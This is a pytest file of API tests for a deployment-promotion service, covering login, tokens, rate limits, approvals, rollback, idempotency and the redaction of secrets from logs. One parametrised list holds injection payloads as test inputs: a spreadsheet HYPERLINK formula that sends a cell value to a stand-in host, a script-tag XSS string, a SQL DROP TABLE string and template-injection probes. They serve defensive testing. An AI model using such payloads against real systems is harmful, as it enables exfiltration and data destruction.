"""What people do through the API, from the login to the rollback."""

import asyncio
import csv
import io
import json
import logging
from typing import Any
from uuid import UUID, uuid4

import pytest
import structlog
from fastapi.testclient import TestClient
from starlette.requests import Request
from structlog.testing import capture_logs

from tests.api.conftest import REASON, Api
from tests.promotion.world import World
from wisqu_pipelines.api import problems
from wisqu_pipelines.api.app import create_app
from wisqu_pipelines.api.logs import log_as_json
from wisqu_pipelines.api.routes import promotions
from wisqu_pipelines.audit.verification import verify_control
from wisqu_pipelines.bootstrap import Services
from wisqu_pipelines.environments import schema
from wisqu_pipelines.identity.demo_people import ADMIN, DEVELOPER, SUPERADMIN, TESTER
from wisqu_pipelines.promotion.models import Promotion, PromotionState

PASSWORD = "correct horse battery staple"
FORMULA = '=HYPERLINK("http://x.example/?"&A1) of issue 4711'
STRANGE = [
    FORMULA,
    "<script>alert('issue 4711')</script>",
    "'; DROP TABLE central_users; -- issue 4711",
    "بررسی خطای ورود کاربر ۴۷۱۱",
    "{{7*7}} ${7*7} issue number 4711",
]


def previewed(api: Api, target: str = "stage") -> tuple[World, UUID, str]:
    """A document in dev, and a promotion of it that waits for approval."""
    world = World(api.services)
    document = world.document("guide.md", "How to pray when travelling")
    body = {"promotion_type": "rag_documents", "source_environment": "dev", "target_environment": target}
    answer = api.client.post("/v1/promotions", json={**body, "reason": REASON}, headers=api.headers(DEVELOPER))
    assert answer.status_code == 201, answer.text
    return world, document, answer.json()["id"]


def test_a_login_a_refresh_and_an_environment(api: Api) -> None:
    api.services.people.set_password(ADMIN, PASSWORD, SUPERADMIN, REASON)
    given = api.client.post("/v1/login", json={"email": ADMIN, "password": PASSWORD})
    assert given.status_code == 200, given.text
    assert given.json()["available_environments"] == ["dev", "stage", "prod"]
    headers = {"Authorization": f"Bearer {given.json()['access_token']}"}

    token = api.client.post("/v1/environment-token", json={"environment": "prod", "reason": REASON}, headers=headers)
    assert (token.status_code, token.json()["role"]) == (200, "admin")
    assert token.json()["redirect_url"] == "https://wisqu.com/auth/callback"
    assert token.headers["cache-control"] == "no-store"

    refresh = {"refresh_token": given.json()["refresh_token"]}
    assert api.client.post("/v1/refresh", json=refresh).status_code == 200
    assert api.client.post("/v1/refresh", json=refresh).status_code == 401
    assert api.client.get("/v1/me", headers=headers).status_code == 401, "a replayed refresh token ends the login"


def test_unknown_and_wrong_are_answered_alike(api: Api) -> None:
    api.services.people.set_password(ADMIN, PASSWORD, SUPERADMIN, REASON)
    answers = [
        api.client.post("/v1/login", json={"email": email, "password": "wrong password 1"}).json()
        for email in (ADMIN, "nobody@example.org", DEVELOPER)
    ]
    for each in answers:
        del each["request_id"]
    assert answers[0] == answers[1] == answers[2]
    assert answers[0]["status"] == 401


def test_too_many_attempts_wait(api: Api) -> None:
    body = {"email": f"{uuid4()}@example.org", "password": "wrong password 1"}
    for _ in range(api.services.settings.identity.attempts):
        assert api.client.post("/v1/login", json=body).status_code == 401
    refused = api.client.post("/v1/login", json=body)
    assert refused.status_code == 429
    assert int(refused.headers["retry-after"]) >= 1


def test_a_promotion_from_the_preview_to_the_rollback(api: Api) -> None:
    world, document, promotion = previewed(api)
    url = f"/v1/promotions/{promotion}"
    assert [each["promotion_id"] for each in api.client.get("/v1/approvals", headers=api.headers(ADMIN)).json()] == [
        promotion
    ]
    lines = api.client.get(f"{url}/plan", headers=api.headers()).text.splitlines()
    assert {json.loads(line)["item_type"] for line in lines} == {"stored_files", "rag_documents"}

    assert api.client.post(f"{url}/approve", json={"reason": REASON}, headers=api.headers(TESTER)).status_code == 403
    approved = api.client.post(f"{url}/approve", json={"reason": REASON}, headers=api.headers(ADMIN))
    assert approved.json() == {"state": "approved"}
    assert api.client.post(f"{url}/approve", json={}, headers=api.headers(ADMIN)).status_code == 409
    started = api.client.post(f"{url}/resume", headers=api.headers(ADMIN))
    assert started.status_code == 202, started.text

    with api.client.stream("GET", f"{url}/events", headers=api.headers()) as stream:
        told = [json.loads(line.removeprefix("data: ")) for line in stream.iter_lines() if line.startswith("data: ")]
    assert told[-1]["state"] == "succeeded"
    assert world.visible_points("stage") == 3
    assert api.client.get(url, headers=api.headers()).json()["approvals"][0]["email"] == ADMIN

    asked = api.client.post(f"{url}/rollback", json={"reason": REASON}, headers=api.headers(ADMIN))
    assert asked.status_code == 202, asked.text
    assert api.services.promotions.rollbacks_requested() == [UUID(promotion)]
    assert world.row(document).promotion_status == "promoted"


def test_the_events_of_a_promotion_that_is_refused_end(api: Api) -> None:
    _, _, promotion = previewed(api)
    with api.services.control.begin() as session:
        session.get_one(Promotion, UUID(promotion)).state = PromotionState.REFUSED

    async def nothing_more() -> Any:
        await asyncio.Event().wait()

    async def states() -> list[str]:
        request = Request({"type": "http", "app": api.client.app}, nothing_more)
        async with asyncio.timeout(10):  # read as the server does: a client would wait as long as a stream goes on
            stream = promotions.events(UUID(promotion), request, api.services.promotions.status(UUID(promotion)))
            return [each.data["state"] async for each in stream]

    assert asyncio.run(states()) == ["refused"]


def test_an_item_is_approved_marked_and_unmarked_as_it_was_read(api: Api) -> None:
    world = World(api.services)
    document = world.document("guide.md", "How to pray")
    base = "/v1/environments/dev/items/rag_documents"
    read = api.client.get(base, headers=api.headers()).json()["items"][0]
    headers = {**api.headers(), "If-Match": read["etag"]}

    marked = api.client.post(f"{base}/{document}/mark", json={"reason": REASON}, headers=headers)
    assert (marked.status_code, marked.json()["is_test_data"]) == (200, True)
    assert marked.headers["etag"] == marked.json()["etag"] != read["etag"]
    stale = api.client.post(f"{base}/{document}/unmark", json={}, headers=headers)
    assert (stale.status_code, stale.json()["title"]) == (412, "PreconditionFailed")
    assert world.row(document).is_test_data
    fresh = {**headers, "If-Match": marked.json()["etag"]}
    assert not api.client.post(f"{base}/{document}/unmark", json={}, headers=fresh).json()["is_test_data"]


def test_pages_hold_everything_once(api: Api) -> None:
    world = World(api.services)
    made = {str(world.document(f"{number}.md", str(number))) for number in range(5)}
    found: list[str] = []
    after: str | None = None
    for _ in range(9):
        query = {"limit": 2, **({} if after is None else {"after": after})}
        page = api.client.get("/v1/environments/dev/items/rag_documents", params=query, headers=api.headers()).json()
        found += [each["id"] for each in page["items"]]
        after = page["next"]
        if after is None:
            break
    assert len(found) == 5
    assert set(found) == made
    for cursor in ("nonsense", "W10", "x" * 500, "eyJ9"):
        refused = api.client.get("/v1/promotions", params={"after": cursor}, headers=api.headers())
        assert refused.status_code == 422


def test_a_key_makes_a_post_happen_once(api: Api) -> None:
    world = World(api.services)
    world.document("guide.md", "How to pray")
    body = {"promotion_type": "rag_documents", "source_environment": "dev", "target_environment": "stage"}
    headers = {**api.headers(), "Idempotency-Key": "one"}

    first, again = (api.client.post("/v1/promotions", json=body, headers=headers) for _ in range(2))
    assert first.status_code == again.status_code == 201
    assert (first.json(), again.headers["idempotent-replayed"]) == (again.json(), "true")
    assert len(api.services.promotions.list()) == 1

    other = api.client.post("/v1/promotions", json={**body, "reason": REASON}, headers=headers)
    assert other.status_code == 422
    somebody_elses = {**api.headers(ADMIN), "Idempotency-Key": "one"}
    assert "idempotent-replayed" not in api.client.post("/v1/promotions", json=body, headers=somebody_elses).headers
    refused = {**api.headers(), "Idempotency-Key": "two"}
    wrong = {**body, "target_environment": "dev"}
    assert [api.client.post("/v1/promotions", json=wrong, headers=refused).status_code for _ in range(2)] == [422, 422]


@pytest.mark.parametrize("reason", STRANGE)
def test_strange_reasons_are_text_and_nothing_else(api: Api, reason: str) -> None:
    asked = {"environment": "prod", "hours": 2, "reason": reason}
    made = api.client.post("/v1/access-requests", json=asked, headers=api.headers(TESTER))
    assert made.status_code == 201, made.text
    assert api.client.get("/v1/access-requests", headers=api.headers(TESTER)).json()[0]["reason"] == reason
    export = api.client.get(
        "/v1/audit/environment_access_log/export", params={"format": "csv"}, headers=api.headers(SUPERADMIN)
    )
    rows = list(csv.DictReader(io.StringIO(export.text)))
    told = next(each["reason"] for each in rows if each["action"] == "access_requested")
    assert told.lstrip("'") == reason.lstrip("'")
    assert not told.startswith(("=", "+", "-", "@"))
    lines = api.client.get(
        "/v1/audit/environment_access_log/export", params={"format": "jsonl"}, headers=api.headers(SUPERADMIN)
    )
    assert reason in [json.loads(line)["reason"] for line in lines.text.splitlines()]
    assert verify_control(api.services.control).holds


@pytest.mark.parametrize(
    "reason", ["x" * 10_000, "a reason with a \x00 in it", "a lone \ud800 surrogate in it", "", "   "]
)
def test_what_cannot_be_kept_is_refused_whole(api: Api, reason: str) -> None:
    body = json.dumps({"environment": "prod", "hours": 2, "reason": reason})
    headers = {**api.headers(TESTER), "Content-Type": "application/json"}
    answer = api.client.post("/v1/access-requests", content=body, headers=headers)
    assert answer.status_code == 422, answer.text
    assert api.client.get("/v1/access-requests", headers=api.headers(TESTER)).json() == []


def test_bodies_have_limits(api: Api) -> None:
    large = api.client.post("/v1/detect", content=b"[" + b"1," * 600_000 + b"1]", headers=api.headers())
    deep = api.client.post("/v1/detect", content=b"[" * 5_000 + b"]" * 5_000, headers=api.headers())
    shouted = {**api.headers(), "Content-Type": "application/JSON"}
    other = api.client.post("/v1/detect", content=b"[" * 5_000 + b"]" * 5_000, headers=shouted)
    assert [large.status_code, deep.status_code, other.status_code] == [413, 413, 413]
    assert deep.headers["content-type"] == "application/problem+json"
    quoted = {"text": "[" * 5_000, "environment": "dev"}
    assert api.client.post("/v1/detect", json=quoted, headers=api.headers()).status_code == 200


def test_every_answer_has_an_id_and_headers_against_misuse(api: Api) -> None:
    for path in ("/health/live", "/v1/me", "/nowhere"):
        answer = api.client.get(path, headers={"X-Request-Id": "from-the-proxy-1"})
        assert answer.headers["x-request-id"] == "from-the-proxy-1"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert (
        api.client.get("/health/live", headers={"X-Request-Id": "bad id\x7f"}).headers["x-request-id"] != "bad id\x7f"
    )


def test_figures_count_routes_and_name_nobody(api: Api) -> None:
    api.client.get(f"/v1/promotions/{uuid4()}", headers=api.headers())
    told = api.client.get("/metrics").text
    assert 'wisqu_api_requests_total{method="GET",route="/v1/promotions/{promotion_id}",status="404"} 1.0' in told


def test_detection_explains_itself(api: Api) -> None:
    body = {"text": "Test user 12", "environment": "dev", "kind": "person"}
    told = api.client.post("/v1/detect", json=body, headers=api.headers()).json()
    assert told["is_test_data"]
    assert told["evidence"][0]["explanation"]


def test_test_accounts_are_counted_apart(api: Api) -> None:
    made = api.client.post(
        "/v1/environments/prod/developer/test-accounts", json={"reason": REASON}, headers=api.headers()
    ).json()
    statistics = api.client.get("/v1/environments/prod/statistics", headers=api.headers()).json()
    assert statistics["users"] == {"total": 0, "active": 0}
    assert statistics["developer_test_accounts"] == {"total": 1, "live": 1}
    gone = api.client.delete(f"/v1/environments/prod/developer/test-accounts/{made['id']}", headers=api.headers())
    assert gone.json()["rows"] == 1
    assert api.client.get("/v1/environments/prod/developer/test-accounts", headers=api.headers()).json() == []


def test_the_log_says_who_asked_also_for_what_they_may_not(api: Api) -> None:
    with capture_logs() as lines:
        assert api.client.get("/v1/audit/environment_access_log", headers=api.headers(DEVELOPER)).status_code == 403
        assert api.client.get("/v1/me", headers={"Authorization": "Bearer nonsense"}).status_code == 401
    developer = api.client.get("/v1/me", headers=api.headers(DEVELOPER)).json()["user_id"]
    told = [(each["status"], each["person"]) for each in lines if each["event"] == "request"]
    assert told == [(403, developer), (401, None)]


def test_no_secret_is_in_a_log_or_an_answer(
    services: Services, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    secrets = sorted(services.settings.secrets())
    assert len(secrets) >= 15
    before = logging.getLogger().handlers[:]
    log_as_json(secrets, logging.DEBUG)
    try:
        with TestClient(create_app(services), raise_server_exceptions=False) as client:
            api = Api(client, services)
            services.people.set_password(ADMIN, PASSWORD, SUPERADMIN, REASON)
            given = client.post("/v1/login", json={"email": ADMIN, "password": PASSWORD}).json()
            secrets += [PASSWORD, given["access_token"], given["refresh_token"]]
            answers = [client.post("/v1/login", json={"email": ADMIN, "password": [PASSWORD]})]
            answers += [client.get("/v1/me", headers={"Authorization": f"Bearer {given['access_token']}x"})]
            answers += [client.get(f"/v1/promotions/{given['access_token']}", headers=api.headers(ADMIN))]
            answers += [client.get("/health/stores", headers=api.headers())]

            def broken(*_: object, **__: object) -> None:
                raise RuntimeError(f"cannot connect to postgresql://wisqu:x1y2z3@db/wisqu with {secrets[0]}")

            with monkeypatch.context() as patched:
                patched.setattr(type(services.promotions), "list", broken)
                answers.append(client.get("/v1/promotions", headers=api.headers()))
                assert answers[-1].status_code == 500
    finally:
        logging.getLogger().handlers = before
        structlog.reset_defaults()
    said = capfd.readouterr()
    everything = said.out + said.err + "".join(each.text for each in answers if each.status_code != 401)
    assert '"event": "request"' in said.err
    assert [each for each in [*secrets, "x1y2z3"] if each in everything] == []


def test_states_of_a_promotion_are_pages_of_their_own(api: Api) -> None:
    _, _, promotion = previewed(api)
    for state, found in ((PromotionState.PLANNED, [promotion]), (PromotionState.SUCCEEDED, [])):
        answer = api.client.get("/v1/promotions", params={"state": state.value}, headers=api.headers())
        assert [each["promotion_id"] for each in answer.json()["items"]] == found


def test_who_sends_no_token_is_told_so_and_how_to_send_one(api: Api) -> None:
    sent: list[dict[str, str]] = [{}, {"Authorization": "Bearer nonsense"}]
    missing, refused = (api.client.get("/v1/promotions", headers=headers) for headers in sent)
    for answer in (missing, refused):
        assert (answer.status_code, answer.headers["www-authenticate"]) == (401, "Bearer")
    assert "No token was sent" in missing.json()["detail"]
    assert "'Authorization: Bearer TOKEN'" in missing.json()["detail"]
    assert refused.json()["detail"] == "The token is not valid."


def test_a_method_that_is_not_there_is_answered_with_those_that_are(api: Api) -> None:
    for path, allowed in (("/v1/promotions", "GET, POST"), (f"/v1/promotions/{uuid4()}/approve", "POST")):
        answer = api.client.put(path)
        assert (answer.status_code, answer.headers["allow"]) == (405, allowed)


def test_a_misspelt_filter_is_refused_and_not_passed_over(api: Api) -> None:
    answer = api.client.get("/v1/promotions?stat=planned", headers=api.headers())
    assert answer.status_code == 422
    assert "'stat'" in answer.json()["detail"]
    assert "after, limit, state" in answer.json()["detail"]
    assert api.client.get("/v1/promotions?stat=planned").status_code == 401, "nor is it told to anybody"


@pytest.mark.parametrize("path", ["/health/live", "/health/ready", "/metrics"])
def test_a_probe_may_ask_with_whatever_it_adds(api: Api, path: str) -> None:
    assert api.client.get(f"{path}?now=1764331545").status_code == 200


def test_a_forgotten_upgrade_is_not_ready_and_says_so_in_the_log(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(schema, "CONTROL_REVISION", "control_9999")
    logged = structlog.testing.CapturingLogger()
    monkeypatch.setattr(problems, "LOG", logged)
    answer = api.client.get("/health/ready")
    assert answer.status_code == 503
    assert "works with control_9999" in answer.json()["detail"]
    assert [call.kwargs["error"] for call in logged.calls] == ["SchemaDiffers"], "whoever reads the log alone knows too"


@pytest.mark.parametrize(
    "times",
    [
        {},
        {"cron": "0 18 * * FRI"},
        {"cron": "0 18 * * FRI", "duration_minutes": 60, "ends_at": "2099-01-01T00:00:00Z"},
        {"starts_at": "2099-01-01T00:00:00", "ends_at": "2099-02-01T00:00:00"},
        {"starts_at": "2020-01-01T00:00:00Z", "ends_at": "2020-02-01T00:00:00Z"},
    ],
    ids=["none", "no end", "both", "no offset", "over"],
)
def test_a_freeze_has_times_that_can_come(api: Api, times: dict[str, object]) -> None:
    asked = {"path": "dev->stage", "reason": REASON, **times}
    assert api.client.post("/v1/freezes", json=asked, headers=api.headers()).status_code == 422
    assert api.services.freezes.list(ended=True) == []
